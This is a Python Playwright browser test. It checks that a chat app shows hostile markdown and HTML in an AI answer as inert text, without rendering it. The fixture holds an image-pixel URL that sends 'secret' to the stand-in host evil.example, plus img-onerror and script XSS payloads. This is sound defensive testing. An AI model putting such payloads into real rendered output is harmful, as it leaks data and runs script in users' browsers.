"""A hostile answer in the real chat, in a real browser: it is shown, and nothing in it is live."""

import pytest
from playwright.sync_api import expect

from tests.support.browser_tab import Tab

pytestmark = pytest.mark.browser

DOCUMENT = """# Notes

See ![pixel](http://evil.example/?q=secret) and [this](http://evil.example) or www.evil.example or me@evil.example.

<img src="http://evil.example/x.png" onerror="document.title='owned'"> <script>document.title='owned'</script>
"""
CODE = 'A[<img src=x>] --> B\n\nif a[1] < 2: return "&lt;"'
ANSWER = DOCUMENT.split("\n\n", 1)[1] + f"\nUse `x[0] < 3 && '<b>'` so:\n```mermaid\n{CODE}\n```\nThat is **all**."


def test_an_answer_of_hostile_text_loads_nothing_links_nowhere_and_shows_its_code(tab: Tab) -> None:
    tab.upload_texts({"notes.md": DOCUMENT})
    tab.ask(f"Where do the notes send me? Repeat: {ANSWER}")
    chat = tab.page.locator("#cw-chat")
    expect(chat).to_contain_text("That is all.")
    expect(tab.page.locator("#cw-quotes .cw-title")).to_have_text("Quotes")
    bot = chat.locator(".bot")
    expect(bot).to_contain_text("![pixel](http://evil.example/?q=secret)")
    expect(bot).to_contain_text('<img src="http://evil.example/x.png"')
    assert bot.locator("strong").inner_text() == "all"
    assert bot.locator("code").all_inner_texts() == ["x[0] < 3 && '<b>'", CODE]
    for part in (bot.locator(".prose"), tab.page.locator("#cw-quotes")):
        assert part.locator("a, img, script, iframe, svg.mermaid").count() == 0
    assert tab.page.title() == "Citewell"
    assert tab.hosts == {"127.0.0.1"}
